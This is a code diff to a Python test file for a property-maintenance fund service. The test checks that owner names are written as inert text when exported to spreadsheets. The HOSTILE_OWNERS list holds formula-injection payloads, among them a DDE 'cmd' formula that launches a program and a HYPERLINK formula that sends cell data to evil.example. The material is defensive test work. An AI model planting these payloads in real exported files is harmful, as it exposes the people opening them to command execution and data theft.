@@ -11,8 +11,17 @@ from openpyxl import Workbook
 from fundflow.service.exports import safe_append
 from tests.service.test_money import Flow
 
-HOSTILE_OWNERS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-2+3",
-                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
+HOSTILE_OWNERS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
 
 
 def _written(value):
@@ -40,9 +49,14 @@ def test_safe_append_leaves_everything_else_alone(value):
 
 def test_the_apportionment_export_writes_hostile_owner_names_as_text(world):
     lines = ["楼栋,单元,房号,建筑面积,业主,分户账余额,首次交存额"]
-    lines += [f'1栋,3单元,{301 + i},80,"{o.replace(chr(34), chr(34) * 2)}",10000,10000' for i, o in enumerate(HOSTILE_OWNERS)]
-    r = world.client.post(f"/api/v1/communities/{world.ids['community_a']}/households",
-                          content="\r\n".join(lines).encode(), headers=world.h("so", **{"Content-Type": "text/csv"}))
+    lines += [
+        f'1栋,3单元,{301 + i},80,"{o.replace(chr(34), chr(34) * 2)}",10000,10000' for i, o in enumerate(HOSTILE_OWNERS)
+    ]
+    r = world.client.post(
+        f"/api/v1/communities/{world.ids['community_a']}/households",
+        content="\r\n".join(lines).encode(),
+        headers=world.h("so", **{"Content-Type": "text/csv"}),
+    )
     assert r.status_code == 201, r.text
     flow = Flow(world)
     case = flow.open(title="=1+1 消防管网")
